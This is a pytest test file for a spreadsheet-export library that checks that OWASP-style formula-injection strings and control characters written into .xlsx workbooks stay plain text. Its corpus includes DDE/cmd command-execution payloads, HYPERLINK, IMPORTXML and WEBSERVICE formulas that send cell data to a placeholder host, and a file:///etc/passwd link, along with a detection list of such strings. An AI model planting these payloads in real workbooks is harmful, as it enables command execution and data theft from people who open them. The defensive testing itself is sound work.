"""What a spreadsheet would obey, in every text that reaches a workbook: it stays text everywhere.

The corpus is OWASP's of formula injection, with what else a careless writer makes live.
"""

from __future__ import annotations

import re
import zipfile
from dataclasses import replace

import numpy as np
import pytest

from cyps.errors import CypsError
from cyps.geography import authorities
from cyps.needs import Use
from cyps.settlement import Band, Bands, Exclusion, Transition, Undamped, Year, settle_years
from cyps_workbooks import PackNote, write_settlement, write_what_if
from cyps_workbooks.checks import check_structure
from cyps_workbooks.kept import open_settlement, read_back
from cyps_workbooks.kept.frozen import freeze
from cyps_workbooks.kept.refreshed import Renewal, open_for_refresh, refresh
from cyps_workbooks.kept.verdict import check_workbook
from cyps_workbooks.layout import Layout
from cyps_workbooks.page import Against, Typed
from cyps_workbooks.published import Publication
from cyps_workbooks.published.reading import read_workbook
from cyps_workbooks.published.workbook import published_bytes
from workbooks.engines import IronCalc, LibreOffice, libreoffice_missing
from workbooks.made_up import made_up, spend_lines
from workbooks.made_up_pack import made_up_pack
from workbooks.test_workbook_copies import DAY
from workbooks.workbook_cells import corner

CORPUS = (
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.invalid?l="&A1,"Error")', "=1+1;=2", "+1+1",
    "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", '=IMPORTXML(CONCAT("http://x.invalid?",A1),"//a")',
    "=WEBSERVICE(\"http://x.invalid\")", '";=1+1;"', '"=1+1', "'=1+1", "{=1+1}", "=DDE(\"cmd\")",
    "＝1+1", "＋1", "－1", "＠SUM(1)", "http://x.invalid/a", "mailto:a@x.invalid", "file:///etc/passwd",
    "Bryn, Môn & \"Llŷn\" o'r Ŵyl", "ŵ" * 255, "a, b; c", "1e5", "TRUE", "_x0041_", "&#61;1+1",
    "two\nlines", "=two\n=lines", "_x000D_=1+1", "_x000d_", "a 👩\u200d👧 family",
    "\u202e=1+1 desrever\u202c", "\u200f=1+1", "\u200b=1+1", "\ufeff=1+1", "line\u2028separator",
    "no character \ufffe", "no character \uffff", "<r><t>rich</t></r>", "<r>&</r>", "]]>", "<!--",
    "_x005F_x000D_", "_x0041_x0042_x0043_ & _x005F_x005F_x005F_", "<r>_x000D_x000A_</r>",
)  # fmt: skip
"""None of them has a space at its ends: XML keeps those only where it is told to."""

CONTROL = ("_x0041\r_x0041_x000D_", "a\ttab", "\t=1+1", "\r=1+1", "back\r\nand forth",
           "bell \x07", "\x00", "\x1b[31mred\x1b[0m", "\x7f", "next\x85line")  # fmt: skip
"""What does not print: kept where people type, refused where the record could not hold it."""

TYPED = (*CORPUS, *CONTROL)

PLACES = tuple(
    replace(place, name=f"{words[:200]} {i}", region=CORPUS[(3 * i) % len(CORPUS)])
    for i, (words, place) in enumerate(zip(CORPUS, authorities(2025), strict=False))
)
LABELS = ("=2025+1", "@2026, Ŵyl")
NAMES = CORPUS[:4]


def settled():
    one = made_up(seed=3, places=PLACES, title=CORPUS[1], status=CORPUS[4], statement=CORPUS[20],
                  notes=CORPUS, exclusions=tuple(Exclusion(f"E9{k}", *CORPUS[k : k + 2])
                                                 for k in range(0, len(CORPUS) - 1)),
                  spend=tuple(replace(line, service_area=CORPUS[k])
                              for k, line in enumerate(spend_lines())))  # fmt: skip
    codes = one.scenario.codes
    member = {code: NAMES[i % 4] for i, code in enumerate(codes)}
    rule = Bands(bands={name: Band(floor=-0.5) for name in NAMES}, member=member)
    years = [
        Year(label, one.scenario.pot + k, rule, Transition(group=member))
        for k, label in enumerate(LABELS)
    ]
    use = replace(one.use, basis=CORPUS[0])
    return list(settle_years(one.scenario, years, use))


def typed(years):
    """People's text: roles, statement, logs, notes, changes; and the lines of earlier refreshes."""
    cells = {}
    for name, place in Layout.of(years, has_pack=True).texts().items():
        area = corner(place.rpartition("!")[2].replace("$", ""))
        cells[name] = tuple(
            tuple(TYPED[(7 * r + c) % len(TYPED)] for c in range(area.cols))
            for r in range(area.rows)
        )
    return Typed(cells=cells, changes=TYPED, outside={("Glossary", 60, 7): CORPUS[0]})


@pytest.fixture(scope="module")
def path(tmp_path_factory):
    years = settled()
    pack = made_up_pack(name=CORPUS[2], statement=CORPUS[1], source=CORPUS[6], status=CORPUS[5])
    # The sentence of a signature has the signer's name in it.
    note = PackNote(pack.name, "a" * 64, pack.status, pack.statement, f"{CORPUS[0]} signs.", pack)
    path = tmp_path_factory.mktemp("corpus") / "s.xlsx"
    write_settlement(
        years, path, pack=note, typed=typed(years), against=Against(CORPUS[7], tuple(years))
    )
    return path


def formulas_and_links(path):
    with zipfile.ZipFile(path) as parts:
        sheets = [n for n in parts.namelist() if "worksheets/" in n]
        everything = b"".join(parts.read(n) for n in sheets).decode()
        names = parts.namelist()
    return re.findall(r"<f[^>]*>([^<]*)</f>", everything), everything, names


def assert_nothing_is_live(path):
    formulas, everything, names = formulas_and_links(path)
    for spell in ("cmd|", "HYPERLINK", "IMPORTXML", "WEBSERVICE", "DDE(", "x.invalid"):
        assert not [formula for formula in formulas if spell in formula], spell
    assert 'TargetMode="External"' not in everything
    assert not [name for name in names if "externalLink" in name or "connections" in name]


def texts(path):
    return {
        cell.text for sheet in open_settlement(path).book.sheets for cell in sheet.cells.values()
    }


def test_every_text_stays_text_and_none_is_lost(path):
    assert check_structure(path) == []
    assert_nothing_is_live(path)
    assert set(TYPED) <= texts(path)
    engine = IronCalc()
    engine.open(path)
    engine.recalculate()
    assert engine.errors() == []


def test_it_is_read_back_checked_frozen_and_refreshed_whole(path):
    opened = open_settlement(path)
    back = read_back(opened)
    assert back.problems == ()
    verdict = check_workbook(path)
    assert verdict.sound, [finding.line() for finding in verdict.findings]
    frozen = path.with_name("frozen.xlsx")
    frozen.write_bytes(freeze(path, DAY))
    assert_nothing_is_live(frozen)
    assert set(TYPED) <= texts(frozen)
    use = back.use
    again = Use(use.codes, use.metrics, use.children * np.array([1.0, 1.1, 0.9]), CORPUS[3])
    made = refresh(*open_for_refresh(path), Renewal(again, PLACES, 2025))
    new = path.with_name("new.xlsx")
    new.write_bytes(made.content)
    assert_nothing_is_live(new)
    assert set(TYPED) <= texts(new)
    assert open_settlement(new).entry("Glossary", 60, 7).value == CORPUS[0]
    for name in Layout.of(settled()).texts():
        before = [[entry.value for entry in row] for row in opened.block(name)]
        assert [[e.value for e in row] for row in open_settlement(new).block(name)] == before


def test_other_programs_read_what_people_wrote(path):
    """Notes, which the corpus begins in: openpyxl and calamine keep escapes, LibreOffice not."""
    if missing := libreoffice_missing():
        pytest.skip(missing)
    office = LibreOffice()
    try:
        office.open(path)
        office.recalculate()
        assert office.errors() == []
        shown = {str(cell) for grid in office.grids().values() for row in grid for cell in row}
    finally:
        office.close()
    # LibreOffice itself drops what is not a character of XML.
    assert {w for w in CORPUS if not w.startswith("no character")} <= shown


@pytest.mark.parametrize("words", CONTROL)
@pytest.mark.parametrize("write", [write_settlement, write_what_if])
def test_what_no_record_could_be_read_with_is_refused_and_named(tmp_path, words, write):
    sign = next(c for c in words if not c.isprintable())
    for changed, at in (
        ({"notes": ("fine", words)}, "number 2 in 'notes' of the settlement"),
        ({"places": (replace(PLACES[0], region=words), *PLACES[1:3])}, "'region' of number 1 in"),
        ({"title": words}, "'title' of the settlement"),
    ):
        one = made_up(seed=3, **{"places": PLACES[:3], **changed})
        given = ([("2025-26", one)],) if write is write_settlement else ("2025-26", one)
        with pytest.raises(CypsError) as raised:
            write(*given, tmp_path / "s.xlsx")
        told = str(raised.value)
        assert f"No workbook was written: {at}" in told
        assert f"U+{ord(sign):04X}, which does not print" in told
        assert told.isprintable()
        assert list(tmp_path.iterdir()) == []


def test_what_cannot_be_kept_as_it_is_is_refused(tmp_path):
    for metric in ("A\nB", "A\tB", "_x000D_", "_x005F_x000D_"):
        one = made_up(seed=3, places=PLACES[:3], metrics=("CIN", metric))
        with pytest.raises(CypsError, match="which no column can be called by"):
            write_settlement([("2025-26", one)], tmp_path / "s.xlsx")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("label", ["2026/27", "[2026]", "2026-27?", "'26'"])
def test_a_year_may_be_called_what_no_sheet_may(tmp_path, label):
    plan = [Year(name, 1_000_000, Undamped()) for name in (label, "2027/28")]
    one = made_up(seed=3, places=PLACES[:3])
    path = tmp_path / "s.xlsx"
    write_settlement(list(settle_years(one.scenario, plan, one.use)), path)
    assert check_structure(path) == []
    assert check_workbook(path).sound
    assert {"Calculation 1", "Calculation 2"} <= set(open_settlement(path).sheets)


def test_a_published_workbook_holds_every_text(tmp_path):
    one = made_up(seed=3, places=PLACES[:3], notes=CORPUS, title=CORPUS[-3], status=CORPUS[-4])
    path = tmp_path / "p.xlsx"
    path.write_bytes(published_bytes(Publication(years=(("", one),), title="a\nb", author="c\x07")))
    read = read_workbook(path)
    words = {c.text for sheet in read.sheets for c in sheet.cells.values()}
    assert set(CORPUS) <= words
    assert_nothing_is_live(path)
